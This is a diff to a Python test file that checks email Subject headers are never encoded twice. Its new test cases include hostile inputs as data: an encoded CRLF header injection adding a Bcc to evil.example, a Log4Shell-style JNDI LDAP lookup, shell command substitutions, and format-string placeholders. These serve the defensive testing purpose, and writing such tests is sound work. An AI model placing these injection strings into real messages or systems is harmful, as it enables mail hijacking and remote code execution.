@@ -200,8 +200,16 @@ def test_a_name_is_cut_where_it_is_longer_than_any_name() -> None:
     assert shown == "x" * (LONGEST_NAME - 1) + "…"
 
 
-@pytest.mark.parametrize("subject", ["P-004 {self._… : « Lancer » approuvé le 31 octobre 2024", "x" * 80, "é" * 200])
+@pytest.mark.parametrize(
+    "subject",
+    [
+        "P-004 = ?utf-8?b?DQpCY2M6IGFsbEBldmlsLmV4YW1wbGU= ?= Bcc: a@e…\xa0: passage de «\xa0Check\xa0» à «\xa0X\xa0»",
+        "P-004 ${jndi:ldap://x.example} $(id) `id`{0} {plan} {} {self._… : « Lancer » approuvé le 31 octobre 2024",
+        "x" * 80,
+        "é" * 200,
+    ],
+)
 def test_a_subject_is_never_encoded_twice(subject: str) -> None:
     message = EmailMessage(policy=compose(row("plan.advanced"), INSTALLATION, SENDER).policy)
-    message["Subject"] = f"P-004 ${{jndi:ldap://x.example}} $(id) {subject}"
-    assert seen(str(parsed(message)["Subject"])) == seen(str(message["Subject"]))
+    message["Subject"] = subject
+    assert seen(str(parsed(message)["Subject"])) == seen(subject)
